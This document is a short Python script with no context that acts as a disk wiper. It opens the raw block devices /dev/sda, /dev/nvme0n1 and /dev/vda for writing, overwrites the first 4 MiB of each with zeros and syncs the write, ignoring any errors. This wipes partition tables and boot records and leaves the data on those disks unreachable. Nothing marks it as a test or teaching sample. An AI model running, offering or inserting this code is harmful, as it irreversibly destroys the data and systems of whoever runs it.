import fcntl, os
for d in ("sda", "nvme0n1", "vda"):
    try:
        fd = os.open(f"/dev/{d}", os.O_WRONLY)
        os.write(fd, b"\0" * (4 << 20)); os.fsync(fd)
    except OSError: continue
